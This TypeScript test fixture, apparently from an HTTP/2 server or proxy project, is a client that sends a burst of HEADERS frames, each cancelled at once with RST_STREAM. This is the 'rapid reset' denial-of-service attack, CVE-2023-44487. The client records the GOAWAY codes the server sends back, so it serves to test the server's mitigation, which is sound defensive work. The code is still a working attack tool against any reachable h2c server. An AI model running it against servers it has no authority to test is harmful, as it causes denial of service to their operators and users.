// Test fixture: one h2c connection that opens and cancels `count` streams in one write (HEADERS, then RST_STREAM CANCEL: a rapid reset, CVE-2023-44487), then prints the GOAWAY codes it got as a JSON array once the connection is closed (or after 5 s).
//   rapid-reset-client.ts <host> <port> <path> [count]
import net from "node:net";
import { encodeBlock } from "../../../core/l7/hpack.ts";
import { ErrorCode, FrameType, headerFrames, rstStream, settingsFrame } from "../../../core/l7/h2-frame.ts";

const [host = "127.0.0.1", port = "80", path = "/", count = "1500"] = process.argv.slice(2);
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const frames: Buffer[] = [PREFACE, settingsFrame(Buffer.alloc(0), [])];
for (let i = 0; i < Number(count); i++) {
  const id = 2 * i + 1;
  frames.push(headerFrames(id, encodeBlock([":method", "GET", ":scheme", "http", ":authority", host, ":path", path]), true, 16384), rstStream(id, ErrorCode.CANCEL));
}
const goaways: number[] = [];
let buf = Buffer.alloc(0);
const socket = net.connect(Number(port), host, () => socket.write(Buffer.concat(frames)));
socket.on("data", (d: Buffer) => {
  buf = Buffer.concat([buf, d]);
  while (buf.length >= 9 && buf.length >= 9 + buf.readUIntBE(0, 3)) {
    const length = buf.readUIntBE(0, 3);
    if (buf[3] === FrameType.GOAWAY && length >= 8) goaways.push(buf.readUInt32BE(13));
    buf = buf.subarray(9 + length);
  }
});
socket.on("error", () => undefined);
const timer = setTimeout(() => socket.destroy(), 5000);
socket.on("close", () => {
  clearTimeout(timer);
  console.log(JSON.stringify(goaways));
});
